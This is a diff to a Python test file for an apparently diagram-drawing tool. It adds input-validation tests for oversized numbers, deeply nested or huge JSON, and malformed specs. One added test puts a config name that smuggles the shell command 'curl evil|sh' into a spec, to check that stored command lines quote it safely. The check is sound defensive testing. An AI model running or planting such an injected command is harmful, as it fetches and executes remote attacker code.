@@ -5,6 +5,7 @@ from __future__ import annotations
 import itertools
 import json
 import random
+import shlex
 from pathlib import Path
 from typing import Any
 
@@ -83,6 +84,11 @@ def test_own_tokens_from_a_file(tmp_path: Path) -> None:
         ({"embeddings": [[1.0, float("nan")]] * 5}, "nan"),
         ({"embeddings": [[1.0], [1.0, 2.0], [1.0], [1.0], [1.0]]}, "different lengths"),
         ({"embeddings": [["x"] * 6] * 5}, "holds 'x'"),
+        ({"embeddings": [[10**400] * 6] * 5}, "beyond 1e+30"),
+        ({"embeddings": [[1e308] * 6] * 5}, "beyond 1e+30"),
+        ({"embeddings": [[["deep"]] * 6] * 5}, "holds list"),
+        ({"tokens": [["a"], "b", "c", "d", "e"]}, "every token must be a word"),
+        ({"tokens": ["a" * 10_000, "b", "c", "d", "e"]}, "200 letters"),
         ({"embeddings": 3}, "not a list of rows"),
         ({"w_q": np.ones((5, 4))}, "one row for each column"),
         ({"w_k": np.ones((6, 3))}, "equally wide"),
@@ -109,7 +115,8 @@ def test_faults_of_own_data_come_together() -> None:
     ("text", "said"),
     [("{", "not JSON"), ("[]", "must hold an object"),
      ('{"tokens": ["a", "b"]}', "no 'embeddings'"), ('{"token": []}', "no 'tokens'"),
-     (None, "cannot be read")],
+     ("[" * 100_000, "too deep"), ('{"tokens": [' + "9" * 5000 + "]}", "too many digits"),
+     ("[" + "1," * 10_000_000, "larger than"), (None, "cannot be read")],
 )  # fmt: skip
 def test_files_that_are_no_data(text: str | None, said: str, tmp_path: Path) -> None:
     file = tmp_path / "data.json"
@@ -118,6 +125,30 @@ def test_files_that_are_no_data(text: str | None, said: str, tmp_path: Path) -> 
     with pytest.raises(DiagramError, match=said) as caught:
         commands.find("who-attends", data=file)
     assert caught.value.faults[0].span.file == str(file)
+
+
+@pytest.mark.parametrize(
+    ("text", "said"),
+    [
+        ("dims: {d: w}\nconfigs: {a: {d: 4}}\ninputs: {x: [3, d]}\nblocks: [gelu]\n",
+         "no learned weights"),
+        ("inputs: {x: [3, 4]}\nblocks: [{op: linear, out: 8}]\n", "depends on a size"),
+        ("dims: {theme: w}\nconfigs: {a: {theme: 4}}\ninputs: {x: [3, theme]}\n"
+         "blocks: [{op: linear, out: theme}]\n", "cannot be named 'theme'"),
+    ],
+)  # fmt: skip
+def test_a_spec_without_anything_to_move_is_told(text: str, said: str) -> None:
+    with pytest.raises(AskError, match=said):
+        parameters_of(load("x", text=text))
+
+
+def test_names_in_a_stored_command_are_quoted() -> None:
+    text = (
+        "dims: {d: w}\nconfigs: {'a\"; curl evil|sh; ': {d: 4}}\ninputs: {x: [3, d]}\n"
+        "blocks: [{op: linear, out: d}]\n"
+    )
+    words = shlex.split(parameters_of(load("x y.yaml", text=text)).options)
+    assert words == ["--spec", "x y.yaml", "--config", 'a"; curl evil|sh; ']
 
 
 SPECS = ("llama3", "gpt2", "bert", "transformer", "gqa", "swiglu")
